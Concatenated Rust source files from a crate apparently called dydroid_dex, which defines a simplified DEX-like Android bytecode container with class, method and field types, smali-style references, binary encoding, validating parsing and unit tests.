        let init = dex.class("a.B").unwrap().method_by_name("<init>").unwrap();
        assert_eq!(init.code, vec![Instruction::ReturnVoid]);
    }

    #[test]
    fn class_metadata() {
        let mut b = DexBuilder::new();
        b.class("a.B", "java.lang.Object")
            .flags(AccessFlags::PUBLIC | AccessFlags::FINAL)
            .interface("java.lang.Runnable")
            .source_file("B.java")
            .field("x", "I", AccessFlags::PRIVATE);
        let dex = b.build();
        let c = dex.class("a.B").unwrap();
        assert!(c.flags.contains(AccessFlags::FINAL));
        assert_eq!(c.interfaces, vec!["java.lang.Runnable"]);
        assert_eq!(c.source_file.as_deref(), Some("B.java"));
        assert_eq!(c.fields.len(), 1);
    }
}
