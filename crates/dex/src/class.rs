//! Class, method and field definitions.

use std::fmt;
use std::ops::{BitAnd, BitOr};

use serde::{Deserialize, Serialize};

use crate::instruction::Instruction;
use crate::refs::MethodSig;
use crate::types::TypeDesc;

/// Java/Dalvik access flags, as a thin typed bitset.
///
/// Implemented by hand (rather than via the `bitflags` crate) to keep the
/// dependency set to the sanctioned list.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
pub struct AccessFlags(pub u32);

impl AccessFlags {
    /// `public`.
    pub const PUBLIC: AccessFlags = AccessFlags(0x0001);
    /// `private`.
    pub const PRIVATE: AccessFlags = AccessFlags(0x0002);
    /// `protected`.
    pub const PROTECTED: AccessFlags = AccessFlags(0x0004);
    /// `static`.
    pub const STATIC: AccessFlags = AccessFlags(0x0008);
    /// `final`.
    pub const FINAL: AccessFlags = AccessFlags(0x0010);
    /// `native` — the body is empty and dispatch goes through JNI.
    pub const NATIVE: AccessFlags = AccessFlags(0x0100);
    /// `abstract`.
    pub const ABSTRACT: AccessFlags = AccessFlags(0x0400);
    /// Synthetic (compiler-generated).
    pub const SYNTHETIC: AccessFlags = AccessFlags(0x1000);

    /// No flags set.
    pub fn empty() -> Self {
        AccessFlags(0)
    }

    /// Whether every flag in `other` is set in `self`.
    pub fn contains(self, other: AccessFlags) -> bool {
        self.0 & other.0 == other.0
    }

    /// Whether this member is visible outside its class (public or
    /// protected).
    pub fn is_externally_visible(self) -> bool {
        self.contains(AccessFlags::PUBLIC) || self.contains(AccessFlags::PROTECTED)
    }

    /// Renders the smali keyword list, e.g. `public static`.
    pub fn keywords(self) -> String {
        let mut out = Vec::new();
        if self.contains(Self::PUBLIC) {
            out.push("public");
        }
        if self.contains(Self::PRIVATE) {
            out.push("private");
        }
        if self.contains(Self::PROTECTED) {
            out.push("protected");
        }
        if self.contains(Self::STATIC) {
            out.push("static");
        }
        if self.contains(Self::FINAL) {
            out.push("final");
        }
        if self.contains(Self::NATIVE) {
            out.push("native");
        }
        if self.contains(Self::ABSTRACT) {
            out.push("abstract");
        }
        if self.contains(Self::SYNTHETIC) {
            out.push("synthetic");
        }
        out.join(" ")
    }

    /// Parses a single smali access keyword.
    pub fn from_keyword(word: &str) -> Option<AccessFlags> {
        Some(match word {
            "public" => Self::PUBLIC,
            "private" => Self::PRIVATE,
            "protected" => Self::PROTECTED,
            "static" => Self::STATIC,
            "final" => Self::FINAL,
            "native" => Self::NATIVE,
            "abstract" => Self::ABSTRACT,
            "synthetic" => Self::SYNTHETIC,
            _ => return None,
        })
    }
}

impl BitOr for AccessFlags {
    type Output = AccessFlags;
    fn bitor(self, rhs: AccessFlags) -> AccessFlags {
        AccessFlags(self.0 | rhs.0)
    }
}

impl BitAnd for AccessFlags {
    type Output = AccessFlags;
    fn bitand(self, rhs: AccessFlags) -> AccessFlags {
        AccessFlags(self.0 & rhs.0)
    }
}

impl fmt::Display for AccessFlags {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.keywords())
    }
}

/// A field definition within a class.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Field {
    /// Field name.
    pub name: String,
    /// Field type.
    pub ty: TypeDesc,
    /// Access flags.
    pub flags: AccessFlags,
}

impl Field {
    /// Creates a field.
    ///
    /// # Panics
    ///
    /// Panics if `ty` is not a valid type descriptor literal.
    pub fn new(name: impl Into<String>, ty: &str, flags: AccessFlags) -> Self {
        Field {
            name: name.into(),
            ty: TypeDesc::parse(ty).expect("invalid field type literal"),
            flags,
        }
    }
}

/// A method definition: name, signature, flags, register count and body.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Method {
    /// Method name.
    pub name: String,
    /// Signature.
    pub sig: MethodSig,
    /// Access flags. `NATIVE` methods have an empty body.
    pub flags: AccessFlags,
    /// Number of virtual registers in the frame.
    pub registers: u16,
    /// Instruction sequence; empty for abstract/native methods.
    pub code: Vec<Instruction>,
}

impl Method {
    /// Creates a method with an empty body.
    ///
    /// # Panics
    ///
    /// Panics if `sig` is not a valid signature literal.
    pub fn new(name: impl Into<String>, sig: &str, flags: AccessFlags) -> Self {
        Method {
            name: name.into(),
            sig: MethodSig::parse(sig).expect("invalid method signature literal"),
            flags,
            registers: 8,
            code: Vec::new(),
        }
    }

    /// Whether this is a constructor (`<init>`) or class initialiser.
    pub fn is_constructor(&self) -> bool {
        self.name == "<init>" || self.name == "<clinit>"
    }

    /// Whether this method has executable bytecode.
    pub fn has_code(&self) -> bool {
        !self.code.is_empty()
    }

    /// Validates intra-method invariants: branch targets in range and
    /// register indices below the declared register count.
    ///
    /// # Errors
    ///
    /// Returns [`crate::DexError::Invalid`] naming the offending method.
    pub fn validate(&self, class: &str) -> Result<(), crate::DexError> {
        let len = self.code.len() as u32;
        for (idx, insn) in self.code.iter().enumerate() {
            if let Some(t) = insn.branch_target() {
                if t >= len {
                    return Err(crate::DexError::Invalid(format!(
                        "{class}->{}: branch target {t} out of range at index {idx} (len {len})",
                        self.name
                    )));
                }
            }
            if let Some(max) = max_register(insn) {
                if max >= self.registers {
                    return Err(crate::DexError::Invalid(format!(
                        "{class}->{}: register v{max} exceeds frame size {} at index {idx}",
                        self.name, self.registers
                    )));
                }
            }
        }
        Ok(())
    }
}

fn max_register(insn: &Instruction) -> Option<u16> {
    use Instruction as I;
    match insn {
        I::Nop | I::ReturnVoid | I::Goto { .. } => None,
        I::Const { dst, .. }
        | I::ConstString { dst, .. }
        | I::ConstNull { dst }
        | I::MoveResult { dst }
        | I::NewInstance { dst, .. }
        | I::SGet { dst, .. } => Some(*dst),
        I::SPut { src, .. } => Some(*src),
        I::Move { dst, src } => Some((*dst).max(*src)),
        I::Invoke { args, .. } => args.iter().copied().max(),
        I::IGet { dst, obj, .. } => Some((*dst).max(*obj)),
        I::IPut { src, obj, .. } => Some((*src).max(*obj)),
        I::IfZero { reg, .. } | I::Return { reg } | I::Throw { reg } | I::CheckCast { reg, .. } => {
            Some(*reg)
        }
        I::IfCmp { a, b, .. } => Some((*a).max(*b)),
        I::BinOp { dst, a, b, .. } => Some((*dst).max(*a).max(*b)),
    }
}

/// A class definition.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ClassDef {
    /// Dotted class name, e.g. `com.example.Main`.
    pub name: String,
    /// Dotted superclass name.
    pub superclass: String,
    /// Access flags.
    pub flags: AccessFlags,
    /// Implemented interfaces, dotted names.
    pub interfaces: Vec<String>,
    /// Source file attribute, if any.
    pub source_file: Option<String>,
    /// Fields.
    pub fields: Vec<Field>,
    /// Methods.
    pub methods: Vec<Method>,
}

impl ClassDef {
    /// Creates an empty public class.
    pub fn new(name: impl Into<String>, superclass: impl Into<String>) -> Self {
        ClassDef {
            name: name.into(),
            superclass: superclass.into(),
            flags: AccessFlags::PUBLIC,
            interfaces: Vec::new(),
            source_file: None,
            fields: Vec::new(),
            methods: Vec::new(),
        }
    }

    /// Looks up a method by name and signature.
    pub fn method(&self, name: &str, sig: &MethodSig) -> Option<&Method> {
        self.methods
            .iter()
            .find(|m| m.name == name && &m.sig == sig)
    }

    /// Looks up a method by name alone (first match).
    pub fn method_by_name(&self, name: &str) -> Option<&Method> {
        self.methods.iter().find(|m| m.name == name)
    }

    /// The dotted package this class belongs to (empty for the default
    /// package).
    pub fn package(&self) -> &str {
        crate::types::split_class_name(&self.name).0
    }

    /// Validates the class and all its methods.
    ///
    /// # Errors
    ///
    /// Returns [`crate::DexError::Invalid`] on the first violated invariant.
    pub fn validate(&self) -> Result<(), crate::DexError> {
        if self.name.is_empty() {
            return Err(crate::DexError::Invalid("empty class name".to_string()));
        }
        for m in &self.methods {
            m.validate(&self.name)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::instruction::{CmpKind, Instruction};

    #[test]
    fn flags_ops() {
        let f = AccessFlags::PUBLIC | AccessFlags::STATIC;
        assert!(f.contains(AccessFlags::PUBLIC));
        assert!(f.contains(AccessFlags::STATIC));
        assert!(!f.contains(AccessFlags::FINAL));
        assert_eq!(f.keywords(), "public static");
    }

    #[test]
    fn flags_keyword_round_trip() {
        for kw in [
            "public",
            "private",
            "protected",
            "static",
            "final",
            "native",
            "abstract",
        ] {
            let f = AccessFlags::from_keyword(kw).unwrap();
            assert_eq!(f.keywords(), kw);
        }
        assert!(AccessFlags::from_keyword("bogus").is_none());
    }

    #[test]
    fn visibility() {
        assert!(AccessFlags::PUBLIC.is_externally_visible());
        assert!(AccessFlags::PROTECTED.is_externally_visible());
        assert!(!AccessFlags::PRIVATE.is_externally_visible());
    }

    #[test]
    fn method_validate_branch_range() {
        let mut m = Method::new("f", "()V", AccessFlags::PUBLIC);
        m.code = vec![Instruction::Goto { target: 5 }];
        assert!(m.validate("a.B").is_err());
        m.code = vec![Instruction::Goto { target: 0 }];
        assert!(m.validate("a.B").is_ok());
    }

    #[test]
    fn method_validate_register_range() {
        let mut m = Method::new("f", "()V", AccessFlags::PUBLIC);
        m.registers = 2;
        m.code = vec![
            Instruction::Const { dst: 1, value: 0 },
            Instruction::IfZero {
                cmp: CmpKind::Eq,
                reg: 2,
                target: 0,
            },
        ];
        assert!(m.validate("a.B").is_err());
        m.registers = 3;
        assert!(m.validate("a.B").is_ok());
    }

    #[test]
    fn class_lookup() {
        let mut c = ClassDef::new("com.x.Y", "java.lang.Object");
        c.methods.push(Method::new("f", "()V", AccessFlags::PUBLIC));
        assert!(c.method_by_name("f").is_some());
        assert!(c.method_by_name("g").is_none());
        let sig = MethodSig::parse("()V").unwrap();
        assert!(c.method("f", &sig).is_some());
        assert_eq!(c.package(), "com.x");
    }

    #[test]
    fn constructor_detection() {
        assert!(Method::new("<init>", "()V", AccessFlags::PUBLIC).is_constructor());
        assert!(Method::new("<clinit>", "()V", AccessFlags::STATIC).is_constructor());
        assert!(!Method::new("init", "()V", AccessFlags::PUBLIC).is_constructor());
    }

    #[test]
    fn empty_class_name_rejected() {
        let c = ClassDef::new("", "java.lang.Object");
        assert!(c.validate().is_err());
    }
}
