//! Symbolic references to methods and fields, and method signatures.

use std::fmt;

use serde::{Deserialize, Serialize};

use crate::types::TypeDesc;
use crate::DexError;

/// A method signature: parameter types and return type.
///
/// The textual form follows Dalvik: `(ILjava/lang/String;)V`.
///
/// # Example
///
/// ```
/// use dydroid_dex::MethodSig;
///
/// let sig = MethodSig::parse("(I)V")?;
/// assert_eq!(sig.params().len(), 1);
/// assert_eq!(sig.to_string(), "(I)V");
/// # Ok::<(), dydroid_dex::DexError>(())
/// ```
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct MethodSig {
    params: Vec<TypeDesc>,
    ret: TypeDesc,
}

impl MethodSig {
    /// Creates a signature from parts.
    pub fn new(params: Vec<TypeDesc>, ret: TypeDesc) -> Self {
        MethodSig { params, ret }
    }

    /// The common `()V` signature.
    pub fn void() -> Self {
        MethodSig::new(Vec::new(), TypeDesc::Void)
    }

    /// Parses a Dalvik-style signature string such as `(ILx/Y;)Z`.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::BadDescriptor`] if the string is malformed.
    pub fn parse(sig: &str) -> Result<Self, DexError> {
        let bad = || DexError::BadDescriptor(sig.to_string());
        let rest = sig.strip_prefix('(').ok_or_else(bad)?;
        let close = rest.find(')').ok_or_else(bad)?;
        let (param_str, ret_str) = (&rest[..close], &rest[close + 1..]);
        let mut params = Vec::new();
        let mut cursor = param_str;
        while !cursor.is_empty() {
            let (t, next) = TypeDesc::parse_prefix(cursor)?;
            if t == TypeDesc::Void {
                return Err(bad());
            }
            params.push(t);
            cursor = next;
        }
        let ret = TypeDesc::parse(ret_str)?;
        Ok(MethodSig { params, ret })
    }

    /// The parameter types.
    pub fn params(&self) -> &[TypeDesc] {
        &self.params
    }

    /// The return type.
    pub fn ret(&self) -> &TypeDesc {
        &self.ret
    }

    /// Whether the method returns a value.
    pub fn returns_value(&self) -> bool {
        self.ret != TypeDesc::Void
    }
}

impl fmt::Display for MethodSig {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("(")?;
        for p in &self.params {
            f.write_str(&p.descriptor())?;
        }
        write!(f, "){}", self.ret.descriptor())
    }
}

/// A symbolic reference to a method: defining class, name, signature.
///
/// The textual form follows smali: `Lcom/x/Y;->name(I)V`.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct MethodRef {
    /// Dotted name of the defining class.
    pub class: String,
    /// Method name (`<init>` and `<clinit>` are valid).
    pub name: String,
    /// Method signature.
    pub sig: MethodSig,
}

impl MethodRef {
    /// Creates a method reference, parsing the signature.
    ///
    /// # Panics
    ///
    /// Panics if `sig` is not a valid signature string. Use
    /// [`MethodRef::try_new`] for fallible construction.
    pub fn new(class: impl Into<String>, name: impl Into<String>, sig: &str) -> Self {
        Self::try_new(class, name, sig).expect("invalid method signature literal")
    }

    /// Creates a method reference, returning an error on a bad signature.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::BadDescriptor`] if `sig` is malformed.
    pub fn try_new(
        class: impl Into<String>,
        name: impl Into<String>,
        sig: &str,
    ) -> Result<Self, DexError> {
        Ok(MethodRef {
            class: class.into(),
            name: name.into(),
            sig: MethodSig::parse(sig)?,
        })
    }

    /// Parses the smali form `Lcom/x/Y;->name(I)V`.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::BadDescriptor`] on malformed input.
    pub fn parse(text: &str) -> Result<Self, DexError> {
        let bad = || DexError::BadDescriptor(text.to_string());
        let arrow = text.find("->").ok_or_else(bad)?;
        let class_t = TypeDesc::parse(&text[..arrow])?;
        let class = class_t.class_name().ok_or_else(bad)?.to_string();
        let rest = &text[arrow + 2..];
        let paren = rest.find('(').ok_or_else(bad)?;
        let name = rest[..paren].to_string();
        if name.is_empty() {
            return Err(bad());
        }
        let sig = MethodSig::parse(&rest[paren..])?;
        Ok(MethodRef { class, name, sig })
    }
}

impl fmt::Display for MethodRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}->{}{}",
            TypeDesc::class(self.class.clone()).descriptor(),
            self.name,
            self.sig
        )
    }
}

/// A symbolic reference to a field: defining class, name, type.
///
/// The textual form follows smali: `Lcom/x/Y;->field:I`.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct FieldRef {
    /// Dotted name of the defining class.
    pub class: String,
    /// Field name.
    pub name: String,
    /// Field type.
    pub ty: TypeDesc,
}

impl FieldRef {
    /// Creates a field reference, parsing the type descriptor.
    ///
    /// # Panics
    ///
    /// Panics if `ty` is not a valid type descriptor literal.
    pub fn new(class: impl Into<String>, name: impl Into<String>, ty: &str) -> Self {
        FieldRef {
            class: class.into(),
            name: name.into(),
            ty: TypeDesc::parse(ty).expect("invalid field type literal"),
        }
    }

    /// Parses the smali form `Lcom/x/Y;->field:I`.
    ///
    /// # Errors
    ///
    /// Returns [`DexError::BadDescriptor`] on malformed input.
    pub fn parse(text: &str) -> Result<Self, DexError> {
        let bad = || DexError::BadDescriptor(text.to_string());
        let arrow = text.find("->").ok_or_else(bad)?;
        let class_t = TypeDesc::parse(&text[..arrow])?;
        let class = class_t.class_name().ok_or_else(bad)?.to_string();
        let rest = &text[arrow + 2..];
        let colon = rest.find(':').ok_or_else(bad)?;
        let name = rest[..colon].to_string();
        if name.is_empty() {
            return Err(bad());
        }
        let ty = TypeDesc::parse(&rest[colon + 1..])?;
        Ok(FieldRef { class, name, ty })
    }
}

impl fmt::Display for FieldRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}->{}:{}",
            TypeDesc::class(self.class.clone()).descriptor(),
            self.name,
            self.ty.descriptor()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sig_parse_round_trip() {
        for s in ["()V", "(I)V", "(ILjava/lang/String;[J)Z", "()Lx/Y;"] {
            let sig = MethodSig::parse(s).unwrap();
            assert_eq!(sig.to_string(), s);
        }
    }

    #[test]
    fn sig_rejects_malformed() {
        for s in ["", "()", "(V)V", "I)V", "(I", "(I)VX"] {
            assert!(MethodSig::parse(s).is_err(), "should reject {s:?}");
        }
    }

    #[test]
    fn method_ref_round_trip() {
        let m = MethodRef::new("com.x.Y", "doIt", "(I)V");
        let text = m.to_string();
        assert_eq!(text, "Lcom/x/Y;->doIt(I)V");
        assert_eq!(MethodRef::parse(&text).unwrap(), m);
    }

    #[test]
    fn method_ref_init() {
        let m = MethodRef::parse("La/B;-><init>()V").unwrap();
        assert_eq!(m.name, "<init>");
    }

    #[test]
    fn method_ref_rejects_malformed() {
        for s in ["La/B;doIt(I)V", "La/B;->(I)V", "I->x()V", "La/B;->x"] {
            assert!(MethodRef::parse(s).is_err(), "should reject {s:?}");
        }
    }

    #[test]
    fn field_ref_round_trip() {
        let f = FieldRef::new("com.x.Y", "count", "I");
        let text = f.to_string();
        assert_eq!(text, "Lcom/x/Y;->count:I");
        assert_eq!(FieldRef::parse(&text).unwrap(), f);
    }

    #[test]
    fn field_ref_rejects_malformed() {
        for s in ["La/B;->x", "La/B;->:I", "La/B;x:I"] {
            assert!(FieldRef::parse(s).is_err(), "should reject {s:?}");
        }
    }

    #[test]
    fn returns_value() {
        assert!(!MethodSig::void().returns_value());
        assert!(MethodSig::parse("()I").unwrap().returns_value());
    }
}
