//! The DEX-like container: a set of classes plus a binary encoding.
//!
//! # Binary layout
//!
//! ```text
//! magic    "SDEX"            4 bytes
//! version  u16               currently 35 (mirroring dex 035)
//! checksum u32               Adler-32 over everything after this field
//! strings  u32 count, then count length-prefixed UTF-8 strings
//! classes  u32 count, then count encoded class defs
//! ```
//!
//! All names, descriptors and string constants are interned in the string
//! pool and referenced by `u32` index, as in real DEX. Parsing validates the
//! magic, version, checksum, every pool index and every branch target, so
//! corrupted or adversarial files fail with a precise [`DexError`] — the
//! decompiler failure statistics in Table II depend on these failure modes.

use std::collections::HashMap;
use std::fmt;

use serde::{Deserialize, Serialize};

use crate::checksum::adler32;
use crate::class::{AccessFlags, ClassDef, Field, Method};
use crate::encode::{Reader, Writer};
use crate::instruction::{BinOp, CmpKind, Instruction, InvokeKind};
use crate::refs::{FieldRef, MethodRef, MethodSig};
use crate::types::TypeDesc;

/// Magic bytes at the start of every encoded DEX-like file.
pub const DEX_MAGIC: &[u8; 4] = b"SDEX";
/// Current format version.
pub const DEX_VERSION: u16 = 35;

/// Errors produced while constructing, encoding or parsing DEX-like data.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DexError {
    /// The file does not start with [`DEX_MAGIC`].
    BadMagic,
    /// The version field is unsupported.
    BadVersion(u16),
    /// The Adler-32 checksum does not match the payload.
    ChecksumMismatch {
        /// Checksum stored in the header.
        expected: u32,
        /// Checksum computed over the payload.
        actual: u32,
    },
    /// The input ended before a field could be read.
    Truncated {
        /// What was being read.
        what: String,
        /// Bytes needed.
        needed: usize,
        /// Bytes available.
        available: usize,
    },
    /// A structural invariant was violated.
    Invalid(String),
    /// A type descriptor or signature failed to parse.
    BadDescriptor(String),
    /// An unknown instruction opcode was encountered.
    BadOpcode(u8),
    /// A string-pool index was out of range.
    BadStringIndex(u32),
}

impl fmt::Display for DexError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DexError::BadMagic => write!(f, "bad magic, not a dex file"),
            DexError::BadVersion(v) => write!(f, "unsupported dex version {v}"),
            DexError::ChecksumMismatch { expected, actual } => {
                write!(
                    f,
                    "checksum mismatch: header {expected:#010x}, payload {actual:#010x}"
                )
            }
            DexError::Truncated {
                what,
                needed,
                available,
            } => {
                write!(
                    f,
                    "truncated while reading {what}: needed {needed}, had {available}"
                )
            }
            DexError::Invalid(msg) => write!(f, "invalid dex structure: {msg}"),
            DexError::BadDescriptor(d) => write!(f, "bad type descriptor or signature: {d:?}"),
            DexError::BadOpcode(op) => write!(f, "unknown opcode {op:#04x}"),
            DexError::BadStringIndex(idx) => write!(f, "string index {idx} out of range"),
        }
    }
}

impl std::error::Error for DexError {}

/// An in-memory DEX-like file: a list of class definitions.
///
/// # Example
///
/// ```
/// use dydroid_dex::{ClassDef, DexFile};
///
/// let mut dex = DexFile::new();
/// dex.add_class(ClassDef::new("com.example.A", "java.lang.Object"));
/// let bytes = dex.to_bytes();
/// let back = DexFile::parse(&bytes)?;
/// assert_eq!(back.classes().len(), 1);
/// # Ok::<(), dydroid_dex::DexError>(())
/// ```
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct DexFile {
    classes: Vec<ClassDef>,
}

impl DexFile {
    /// Creates an empty file.
    pub fn new() -> Self {
        DexFile {
            classes: Vec::new(),
        }
    }

    /// Adds a class definition.
    pub fn add_class(&mut self, class: ClassDef) {
        self.classes.push(class);
    }

    /// All class definitions.
    pub fn classes(&self) -> &[ClassDef] {
        &self.classes
    }

    /// Mutable access to the class definitions (used by rewriting).
    pub fn classes_mut(&mut self) -> &mut Vec<ClassDef> {
        &mut self.classes
    }

    /// Looks up a class by dotted name.
    pub fn class(&self, name: &str) -> Option<&ClassDef> {
        self.classes.iter().find(|c| c.name == name)
    }

    /// Iterates over every method in every class.
    pub fn methods(&self) -> impl Iterator<Item = (&ClassDef, &Method)> {
        self.classes
            .iter()
            .flat_map(|c| c.methods.iter().map(move |m| (c, m)))
    }

    /// Validates all classes.
    ///
    /// # Errors
    ///
    /// Returns the first structural violation found.
    pub fn validate(&self) -> Result<(), DexError> {
        let mut seen = std::collections::HashSet::new();
        for c in &self.classes {
            if !seen.insert(&c.name) {
                return Err(DexError::Invalid(format!("duplicate class {}", c.name)));
            }
            c.validate()?;
        }
        Ok(())
    }

    /// Encodes the file to bytes, interning strings and computing the
    /// header checksum.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut pool = StringPool::new();
        let mut body = Writer::new();
        // Pre-intern everything by encoding the class section into `body`.
        body.u32(self.classes.len() as u32);
        for c in &self.classes {
            encode_class(&mut body, &mut pool, c);
        }

        let mut payload = Writer::new();
        payload.u32(pool.strings.len() as u32);
        for s in &pool.strings {
            payload.str(s);
        }
        payload.bytes(&body.into_bytes());
        let payload = payload.into_bytes();

        let mut out = Writer::new();
        out.bytes(DEX_MAGIC);
        out.u16(DEX_VERSION);
        out.u32(adler32(&payload));
        out.bytes(&payload);
        out.into_bytes()
    }

    /// Parses an encoded file, verifying magic, version, checksum and all
    /// structural invariants.
    ///
    /// # Errors
    ///
    /// Returns a [`DexError`] describing the first problem found.
    pub fn parse(data: &[u8]) -> Result<Self, DexError> {
        let mut r = Reader::new(data);
        let magic = r.take(4, "magic")?;
        if magic != DEX_MAGIC {
            return Err(DexError::BadMagic);
        }
        let version = r.u16("version")?;
        if version != DEX_VERSION {
            return Err(DexError::BadVersion(version));
        }
        let expected = r.u32("checksum")?;
        let payload_offset = 4 + 2 + 4;
        let actual = adler32(&data[payload_offset..]);
        if expected != actual {
            return Err(DexError::ChecksumMismatch { expected, actual });
        }

        let n_strings = r.u32("string count")?;
        let mut strings = Vec::with_capacity(n_strings.min(65_536) as usize);
        for _ in 0..n_strings {
            strings.push(r.str("string pool entry")?);
        }
        let n_classes = r.u32("class count")?;
        let mut classes = Vec::with_capacity(n_classes.min(65_536) as usize);
        for _ in 0..n_classes {
            classes.push(decode_class(&mut r, &strings)?);
        }
        let file = DexFile { classes };
        file.validate()?;
        Ok(file)
    }
}

struct StringPool {
    strings: Vec<String>,
    index: HashMap<String, u32>,
}

impl StringPool {
    fn new() -> Self {
        StringPool {
            strings: Vec::new(),
            index: HashMap::new(),
        }
    }

    fn intern(&mut self, s: &str) -> u32 {
        if let Some(&idx) = self.index.get(s) {
            return idx;
        }
        let idx = self.strings.len() as u32;
        self.strings.push(s.to_string());
        self.index.insert(s.to_string(), idx);
        idx
    }
}

fn encode_class(w: &mut Writer, pool: &mut StringPool, c: &ClassDef) {
    w.u32(pool.intern(&c.name));
    w.u32(pool.intern(&c.superclass));
    w.u32(c.flags.0);
    w.u32(c.interfaces.len() as u32);
    for i in &c.interfaces {
        w.u32(pool.intern(i));
    }
    match &c.source_file {
        Some(sf) => {
            w.u8(1);
            w.u32(pool.intern(sf));
        }
        None => w.u8(0),
    }
    w.u32(c.fields.len() as u32);
    for f in &c.fields {
        w.u32(pool.intern(&f.name));
        w.u32(pool.intern(&f.ty.descriptor()));
        w.u32(f.flags.0);
    }
    w.u32(c.methods.len() as u32);
    for m in &c.methods {
        encode_method(w, pool, m);
    }
}

fn encode_method(w: &mut Writer, pool: &mut StringPool, m: &Method) {
    w.u32(pool.intern(&m.name));
    w.u32(pool.intern(&m.sig.to_string()));
    w.u32(m.flags.0);
    w.u16(m.registers);
    w.u32(m.code.len() as u32);
    for insn in &m.code {
        encode_insn(w, pool, insn);
    }
}

fn lookup(strings: &[String], idx: u32) -> Result<&str, DexError> {
    strings
        .get(idx as usize)
        .map(String::as_str)
        .ok_or(DexError::BadStringIndex(idx))
}

fn decode_class(r: &mut Reader, strings: &[String]) -> Result<ClassDef, DexError> {
    let name = lookup(strings, r.u32("class name")?)?.to_string();
    let superclass = lookup(strings, r.u32("superclass")?)?.to_string();
    let flags = AccessFlags(r.u32("class flags")?);
    let n_ifaces = r.u32("interface count")?;
    let mut interfaces = Vec::with_capacity(n_ifaces.min(1024) as usize);
    for _ in 0..n_ifaces {
        interfaces.push(lookup(strings, r.u32("interface")?)?.to_string());
    }
    let source_file = if r.u8("source file flag")? == 1 {
        Some(lookup(strings, r.u32("source file")?)?.to_string())
    } else {
        None
    };
    let n_fields = r.u32("field count")?;
    let mut fields = Vec::with_capacity(n_fields.min(65_536) as usize);
    for _ in 0..n_fields {
        let fname = lookup(strings, r.u32("field name")?)?.to_string();
        let ty = TypeDesc::parse(lookup(strings, r.u32("field type")?)?)?;
        let fflags = AccessFlags(r.u32("field flags")?);
        fields.push(Field {
            name: fname,
            ty,
            flags: fflags,
        });
    }
    let n_methods = r.u32("method count")?;
    let mut methods = Vec::with_capacity(n_methods.min(65_536) as usize);
    for _ in 0..n_methods {
        methods.push(decode_method(r, strings)?);
    }
    Ok(ClassDef {
        name,
        superclass,
        flags,
        interfaces,
        source_file,
        fields,
        methods,
    })
}

fn decode_method(r: &mut Reader, strings: &[String]) -> Result<Method, DexError> {
    let name = lookup(strings, r.u32("method name")?)?.to_string();
    let sig = MethodSig::parse(lookup(strings, r.u32("method sig")?)?)?;
    let flags = AccessFlags(r.u32("method flags")?);
    let registers = r.u16("register count")?;
    let n_insns = r.u32("instruction count")?;
    let mut code = Vec::with_capacity(n_insns.min(1_000_000) as usize);
    for _ in 0..n_insns {
        code.push(decode_insn(r, strings)?);
    }
    Ok(Method {
        name,
        sig,
        flags,
        registers,
        code,
    })
}

// Opcode assignments for the binary encoding.
mod op {
    pub const NOP: u8 = 0x00;
    pub const CONST: u8 = 0x01;
    pub const CONST_STRING: u8 = 0x02;
    pub const CONST_NULL: u8 = 0x03;
    pub const MOVE: u8 = 0x04;
    pub const MOVE_RESULT: u8 = 0x05;
    pub const NEW_INSTANCE: u8 = 0x06;
    pub const INVOKE: u8 = 0x07;
    pub const IGET: u8 = 0x08;
    pub const IPUT: u8 = 0x09;
    pub const SGET: u8 = 0x0A;
    pub const SPUT: u8 = 0x0B;
    pub const IF_ZERO: u8 = 0x0C;
    pub const IF_CMP: u8 = 0x0D;
    pub const GOTO: u8 = 0x0E;
    pub const BIN_OP: u8 = 0x0F;
    pub const RETURN_VOID: u8 = 0x10;
    pub const RETURN: u8 = 0x11;
    pub const THROW: u8 = 0x12;
    pub const CHECK_CAST: u8 = 0x13;
}

fn invoke_kind_code(k: InvokeKind) -> u8 {
    match k {
        InvokeKind::Virtual => 0,
        InvokeKind::Direct => 1,
        InvokeKind::Static => 2,
        InvokeKind::Interface => 3,
    }
}

fn invoke_kind_from(code: u8) -> Result<InvokeKind, DexError> {
    Ok(match code {
        0 => InvokeKind::Virtual,
        1 => InvokeKind::Direct,
        2 => InvokeKind::Static,
        3 => InvokeKind::Interface,
        _ => return Err(DexError::Invalid(format!("bad invoke kind {code}"))),
    })
}

fn cmp_code(c: CmpKind) -> u8 {
    match c {
        CmpKind::Eq => 0,
        CmpKind::Ne => 1,
        CmpKind::Lt => 2,
        CmpKind::Ge => 3,
        CmpKind::Gt => 4,
        CmpKind::Le => 5,
    }
}

fn cmp_from(code: u8) -> Result<CmpKind, DexError> {
    Ok(match code {
        0 => CmpKind::Eq,
        1 => CmpKind::Ne,
        2 => CmpKind::Lt,
        3 => CmpKind::Ge,
        4 => CmpKind::Gt,
        5 => CmpKind::Le,
        _ => return Err(DexError::Invalid(format!("bad cmp kind {code}"))),
    })
}

fn binop_code(b: BinOp) -> u8 {
    match b {
        BinOp::Add => 0,
        BinOp::Sub => 1,
        BinOp::Mul => 2,
        BinOp::Div => 3,
        BinOp::Rem => 4,
        BinOp::Xor => 5,
        BinOp::And => 6,
        BinOp::Or => 7,
    }
}

